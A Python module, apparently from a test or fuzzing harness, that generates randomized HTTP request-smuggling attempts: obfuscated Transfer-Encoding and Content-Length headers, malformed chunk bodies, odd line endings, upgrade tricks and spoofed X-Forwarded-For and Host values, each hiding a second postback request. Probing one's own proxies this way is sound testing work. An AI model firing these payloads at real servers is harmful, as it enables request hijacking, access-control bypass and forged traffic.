"""Owns attempts to smuggle a request past a proxy: bytes that two servers may see as one request, or as two."""

import random
from collections.abc import Iterator

_PLANS = ["c", "l", "lc", "cl", "ll", "cc", "uc", "ul", "u", "el", "ec", "nl", "nc", "xl", "xc", "", "x", "lcu", "cle"]
_FIELDS: dict[str, tuple[bytes, ...]] = {
    "c": (
        b"Transfer-Encoding: chunked",
        b"Transfer-Encoding: Chunked",
        b"Transfer-Encoding : chunked",
        b"Transfer-Encoding\t: chunked",
        b"Transfer-Encoding:\tchunked",
        b"Transfer-Encoding: xchunked",
        b"Transfer-Encoding: chunked, identity",
        b"Transfer-Encoding: identity, chunked",
        b"Transfer-Encoding: gzip, chunked",
        b"Transfer-Encoding: chunked\r\nTransfer-Encoding: x",
        b"Transfer-Encoding: x\r\nTransfer-Encoding: chunked",
        b"Transfer-Encoding:\r\n chunked",
        b"Transfer-Encoding: \x0bchunked",
        b"Transfer-Encoding: chunked\x0b",
        b"Transfer-Encoding: chunked\0",
        b"Transfer_Encoding: chunked",
        b"Transfer Encoding: chunked",
        b" Transfer-Encoding: chunked",
        b"X: y\nTransfer-Encoding: chunked",
        b"X: y\rTransfer-Encoding: chunked",
        b"X: y\r\r\nTransfer-Encoding: chunked",
        b'Transfer-Encoding: "chunked"',
        b"Transfer-Encoding: chunked;a",
        b"TE: chunked",
    ),
    "l": (
        b"Content-Length: %d",
        b"Content-Length: %d",
        b"Content-Length : %d",
        b"Content-Length: +%d",
        b"Content-Length: 0%d",
        b"Content-Length: %d, %d",
        b"Content-Length: %d;",
        b"Content-Length: 0x%x",
        b"Content-Length: %d\r\nContent-Length: 0",
        b"Content-Length: 0\r\nContent-Length: %d",
        b"Content-Length: %d\r\ncontent-length: %d",
        b"Content-Length:\r\n %d",
        b"Content-Length: %d\0",
        b"Content-Length\0: %d",
        b"Content_Length: %d",
        b"Content Length: %d",
        b" Content-Length: %d",
        b"X: y\nContent-Length: %d",
        b"X: y\rContent-Length: %d",
    ),
    "u": (
        b"Connection: Upgrade\r\nUpgrade: h2c",
        b"Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__",
        b"Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Key: eHh4eHh4eHh4eHh4eHh4eA==",
        b"Connection: upgrade\r\nUpgrade: anything",
        b"Upgrade: h2c",
    ),
    "e": (b"Expect: 100-continue", b"Expect: 100-Continue, x", b"Expect: x"),
    "n": (
        b"Connection: Content-Length",
        b"Connection: Transfer-Encoding",
        b"Connection: X-Forwarded-For, Host",
        b"Connection: close, Content-Length",
        b"Proxy-Connection: close",
        b"Connection: keep-alive",
    ),
    "x": (
        b"X-Forwarded-For: 192.0.2.1",
        b"X_Forwarded_For: 192.0.2.1",
        b"X-Forwarded-For : 192.0.2.1",
        b"Host: elsewhere.example",
        b"Host : elsewhere.example",
        b"X: y\r\n\r\n",
        b"X:\x0by",
        b": y",
    ),
}
_TARGETS = (
    b"/postback?c=outer-%d&value=1&key=%b HTTP/1.1",
    b"/postback?c=outer-%d&value=1&key=%b HTTP/1.1",
    b"/postback?c=outer-%d&value=1&key=%b HTTP/1.0",
    b"https://%b/postback?c=outer-%d&value=1&key=%b HTTP/1.1",
    b"https://elsewhere.example/postback?c=outer-%d&value=1&key=%b HTTP/1.1",
    b"//elsewhere.example/../postback?c=outer-%d&value=1&key=%b HTTP/1.1",
    b"/postback?c=outer-%d&value=1&key=%b&x=%%0d%%0a%%0d%%0a HTTP/1.1",
    b"/postback?c=outer-%d&value=1&key=%b HTTP/1.1\r\nX: y HTTP/1.1",
)
_LINE_ENDS = (b"\n", b"\r", b"\r\r\n", b"\r\n\r\n", b"\n\r\n", b" \r\n", b"\0\r\n")


def attempts(seed: int, name: str, key: str) -> Iterator[list[bytes]]:
    """Yield attempts without end, each as the segments in which it is sent.

    The click id of what has to be seen as a request is outer-N, of what is hidden in it, smuggled-N.
    """
    chance, number = random.Random(seed), 0  # noqa: S311 - repeatable, not secret
    while True:
        number += 1
        yield _attempt(chance, number, name.encode(), key.encode())


def _attempt(chance: random.Random, number: int, name: bytes, key: bytes) -> list[bytes]:
    inner = b"GET /postback?c=smuggled-%d&value=9&key=%b HTTP/1.1\r\nHost: %b\r\n" % (number, key, name)
    inner += b"X-Forwarded-For: 192.0.2.66\r\n\r\n"
    body = _body(chance, inner)
    length = chance.choice((len(body), len(body) - len(inner), 0, 5, len(inner), len(body) + 9))
    target = chance.choice(_TARGETS)
    target = target.replace(b"https://%b", b"https://" + name) % (number, key)
    line = chance.choice((b"POST ", b"POST ", b"GET ", b"PUT ", b"OPTIONS ", b"HEAD ")) + target
    fields = [_filled(chance.choice(_FIELDS[kind]), length) for kind in chance.choice(_PLANS)]
    head = b"\r\n".join((line, b"Host: " + name, *fields, b"", b""))
    if chance.random() < 0.2:
        ends = head.count(b"\r\n")
        parts = head.split(b"\r\n")
        at = chance.randrange(ends)
        head = b"\r\n".join(parts[: at + 1]) + chance.choice(_LINE_ENDS) + b"\r\n".join(parts[at + 1 :])
    sent = head + body
    cut = chance.choice((len(sent), len(head), len(sent) - len(inner), chance.randrange(len(sent))))
    return [piece for piece in (sent[:cut], sent[cut:]) if piece]


def _filled(field: bytes, length: int) -> bytes:
    return field.replace(b"%d", b"%d" % length).replace(b"%x", b"%x" % length)


def _body(chance: random.Random, inner: bytes) -> bytes:
    chunk = b"%x\r\n%b\r\n" % (len(inner), inner)
    return chance.choice(
        (
            inner,
            b"0\r\n\r\n" + inner,
            chunk + b"0\r\n\r\n",
            b"%x\r\n\r\n%b\r\n0\r\n\r\n" % (len(inner) + 2, inner),
            b"5\r\nhello\r\n0\r\n\r\n" + inner,
            b"0\r\nX: y\r\n" + inner + b"\r\n",
            b"0\r\nContent-Length: 5\r\n\r\n" + inner,
            b"0;" + inner,
            b"5;a\nhello\r\n0\r\n\r\n" + inner,
            b'5;a="\r\nhello\r\n0\r\n\r\n' + inner,
            b"0\n\r\n" + inner,
            b"0\r\n\n" + inner,
            b"00000000000000000\r\n\r\n" + inner,
            b"100000000000000000\r\n" + inner,
            b"0x0\r\n\r\n" + inner,
            b"-1\r\n" + inner,
            b"5\r\nhelloX\r\n0\r\n\r\n" + inner,
            b"\r\n" + inner,
            b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + inner,
        )
    )
